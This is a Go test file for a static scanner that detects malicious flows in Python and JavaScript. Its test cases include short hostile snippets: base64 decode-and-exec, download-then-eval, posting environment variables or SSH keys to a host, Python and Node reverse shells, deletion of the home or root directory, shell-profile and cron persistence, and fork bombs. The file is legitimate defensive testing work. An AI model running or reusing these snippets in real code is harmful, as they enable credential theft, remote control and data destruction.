package codescan

import (
	"fmt"
	"strings"
	"testing"
)

func TestAnalyze(t *testing.T) {
	for _, tc := range []struct {
		name string
		lang Lang
		src  string
		want string // KIND@LINE<-SOURCELINE, space-separated; "" for none
	}{
		{"decoded through a name", Python, "import base64 as b, subprocess\nc = b.b64decode(X).decode()\nsubprocess.run(c, shell=True)", "decoded-exec@3<-2"},
		{"decoded inline", Python, "import codecs, os\nos.popen(codecs.decode('cuc', 'rot13'))", "decoded-exec@2"},
		{"utf-8 decode is not decoding a payload", Python, "import codecs, os\nos.system(codecs.decode(b, 'utf-8'))", ""},
		{"decoded into a file", Python, "import base64\nopen('a.png', 'wb').write(base64.b64decode(B))", ""},
		{"download through f-string", Python, "import requests, subprocess\nu = requests.get(U).text\ncmd = f'sh -c {u}'\nsubprocess.run(cmd, shell=True)", "download-exec@4<-2"},
		{"download saved then run", Python, "from urllib.request import urlretrieve\nurlretrieve(U, '/tmp/x.sh')\nimport os\nos.system('sh /tmp/x.sh')", "download-exec@4<-2"},
		{"download saved, another file run", Python, "from urllib.request import urlretrieve\nurlretrieve(U, '/tmp/x.tgz')\nimport os\nos.system('tar xzf data.tgz')", ""},
		{"download parsed, command fixed", Python, "import requests, subprocess\nv = requests.get(U).json()['tag']\nsubprocess.run(['git', 'checkout', 'main'])", ""},
		{"js fetch then eval", JavaScript, "const r = await fetch(u);\nconst code = await r.text();\neval(code);", "download-exec@3<-1"},
		{"module imported inline", Python, "__import__('os').system(__import__('base64').b64decode(B))", "decoded-exec@1"},
		{"js module required inline", JavaScript, "require('child_process').execSync(Buffer.from(B, 'base64').toString())", "decoded-exec@1"},
		{"js download read through callbacks", JavaScript, "const https = require('https');\nhttps.get(U, (res) => {\n  let body = '';\n  res.on('data', c => body += c);\n  res.on('end', function () { require('child_process').exec(body); });\n});", "download-exec@5<-2"},
		{"js download chunks logged", JavaScript, "const https = require('https');\nhttps.get(U, function (res) {\n  res.on('data', (c) => process.stdout.write(c));\n});\nconst { exec } = require('child_process');\nexec('ls', (err, out) => console.log(out));", ""},
		{"js fromCharCode of a table", JavaScript, "const T = [108, 115];\nconst c = String.fromCharCode(...T);\nrequire('child_process').execSync(c);", "decoded-exec@3<-2"},
		{"js Buffer.from of bytes", JavaScript, "const { exec } = require('child_process');\nexec(Buffer.from([108, 115]).toString());", "decoded-exec@2"},
		{"js fromCharCode into a label", JavaScript, "const label = String.fromCharCode(65 + i);\nconsole.log(label);", ""},
		{"js regexp exec is not a process", JavaScript, "const m = /a(b)/.exec(await (await fetch(u)).text());", ""},
		{"environment posted", Python, "import os, json, urllib.request\nbody = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(U, data=body)", "secret-send@3<-2"},
		{"one variable as a header", Python, "import os, requests\nk = os.environ.get('API_KEY')\nrequests.post(U, headers={'Authorization': k}, json={'q': 1})", ""},
		{"home walked and uploaded", Python, "import os, requests\nfor p in os.listdir(os.path.expanduser('~/Documents')):\n    requests.post(U, files={'f': open(p, 'rb')})", "secret-send@3<-2"},
		{"ssh key sent over a socket", Python, "import socket\ns = socket.socket()\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\ns.sendall(k.encode())", "secret-send@4<-3"},
		{"project files uploaded", Python, "import os, requests\nfor p in os.listdir('out'):\n    requests.post(U, files={'f': open(p, 'rb')})", ""},
		{"js env in fetch body", JavaScript, "await fetch(u, { method: 'POST', body: JSON.stringify(process.env) });", "secret-send@1"},
		{"one variable of a copy of the environment", Python, "import os, requests\nenv = os.environ.copy()\nrequests.post(U, json={'k': env['API_KEY']})", ""},
		{"js one variable of the environment by a name", JavaScript, "const env = process.env;\nawait fetch(u, { method: 'POST', body: env.TOKEN });", ""},
		{"js environment by a name", JavaScript, "const env = process.env;\nawait fetch(u, { method: 'POST', body: JSON.stringify(env) });", "secret-send@2<-1"},
		{"js request body written", JavaScript, "const https = require('https');\nconst req = https.request({ host: h, method: 'POST' });\nreq.write(JSON.stringify(process.env));\nreq.end();", "secret-send@3"},
		{"js file written", JavaScript, "const fs = require('fs');\nconst out = fs.createWriteStream('log.txt');\nout.write(JSON.stringify(process.env));", ""},
		{"http.client body", Python, "import http.client, os, json\nc = http.client.HTTPSConnection(H)\nc.request('POST', '/', body=json.dumps(dict(os.environ)))", "secret-send@3"},
		{"js one env var in a header", JavaScript, "await fetch(u, { headers: { Authorization: process.env.TOKEN }, body: q });", ""},
		{"python reverse shell", Python, "import socket, os, pty\ns = socket.socket()\ns.connect((H, P))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/bash')", "reverse-shell@4<-2"},
		{"dup2 without a socket", Python, "import os\nos.dup2(f.fileno(), 1)\nos.execvp('sh', ['sh'])", ""},
		{"node reverse shell", JavaScript, "const net = require('net'), cp = require('child_process');\nconst s = new net.Socket();\nconst sh = cp.spawn('/bin/sh');\ns.pipe(sh.stdin);", "reverse-shell@4<-3"},
		{"node pipe of a file", JavaScript, "const fs = require('fs');\nfs.createReadStream(a).pipe(fs.createWriteStream(b));", ""},
		{"rmtree home", Python, "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())", "destructive@3"},
		{"rmtree root via a name", Python, "import shutil\nroot = '/'\nshutil.rmtree(root, ignore_errors=True)", "destructive@3<-2"},
		{"rmtree a folder in home", Python, "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'skill')", ""},
		{"rmSync home", JavaScript, "const fs = require('node:fs'); const os = require('os');\nfs.rmSync(os.homedir(), { recursive: true });", "destructive@2"},
		{"bashrc appended", Python, "import os\nrc = os.path.expanduser('~/.bashrc')\nwith open(rc, 'a') as f:\n    f.write(X)", "persistence@3<-2"},
		{"crontab by write_text", Python, "from pathlib import Path\nPath('/etc/cron.d/job').write_text(X)", "persistence@2"},
		{"bashrc read", Python, "import os\nwith open(os.path.expanduser('~/.bashrc'), encoding='utf-8') as f:\n    print(f.read())", ""},
		{"git hook written by node", JavaScript, "const fs = require('fs');\nfs.writeFileSync('.git/hooks/pre-commit', s);", "persistence@2"},
		{"memory loop", Python, "cache = [b'']\nwhile True:\n    cache.append(cache[-1] + bytes(1 << 20))\nprint(1)", "unbounded@3<-2"},
		{"fork loop", Python, "import os\nwhile 1:\n    os.fork()", "unbounded@3<-2"},
		{"loop with a break", Python, "out = []\nwhile True:\n    out.append(out[-1] * 2)\n    if len(out) > 9:\n        break", ""},
		{"loop body ends at dedent", Python, "while True:\n    n += 1\nq.append(q[-1] * 2)", ""},
		{"js for ever push", JavaScript, "const a = [];\nwhile (true) { a.push(a.concat(a)); }", "unbounded@2<-2"},
		{"huge bytes", Python, "x = b'x' * 10**10", "unbounded@1"},
		{"huge bytearray", Python, "x = bytearray(1 << 40)", "unbounded@1"},
		{"megabyte", Python, "x = bytearray(1 << 20)", ""},
		{"strings and comments are not code", Python, "# os.system(base64.b64decode(x))\ns = \"exec(requests.get(u).text)\"", ""},
	} {
		var got []string
		for _, f := range Analyze(tc.lang, []byte(tc.src)) {
			s := fmt.Sprintf("%s@%d", f.Kind, f.Line)
			if f.SourceLine != 0 {
				s += fmt.Sprintf("<-%d", f.SourceLine)
			}
			got = append(got, s)
		}
		if g := strings.Join(got, " "); g != tc.want {
			t.Errorf("%s: flows %q, want %q", tc.name, g, tc.want)
		}
	}
}

func TestCapabilities(t *testing.T) {
	src := `import subprocess as sp, requests, base64, os
from pathlib import Path
data = requests.get(URL).json()  # requests.post(x) in a comment
sp.run(["git", "status"])
blob = base64.b64decode(B)
for root, dirs, files in os.walk("."):
    pass
Path.home().joinpath(".zshrc").write_text("x")
s = "os.system('not code')"
`
	var got []string
	for _, c := range Capabilities(Python, []byte(src)) {
		got = append(got, fmt.Sprintf("%d:%s:%s", c.Line, c.Kind, c.Text))
	}
	want := "3:network:requests.get 4:process:sp.run 5:decode:base64.b64decode 6:file-walk:os.walk 8:write-outside:.write_text"
	if g := strings.Join(got, " "); g != want {
		t.Errorf("capabilities\n got %s\nwant %s", g, want)
	}
	js := "import { execSync } from 'node:child_process';\nconst r = await fetch(u);\nexecSync('ls');\nfor (;;) { q.push(q.concat(q)); }\n"
	got = got[:0]
	for _, c := range Capabilities(JavaScript, []byte(js)) {
		got = append(got, fmt.Sprintf("%d:%s:%s", c.Line, c.Kind, c.Text))
	}
	want = "2:network:fetch 3:process:execSync 4:unbounded-loop:for loop"
	if g := strings.Join(got, " "); g != want {
		t.Errorf("capabilities\n got %s\nwant %s", g, want)
	}
}
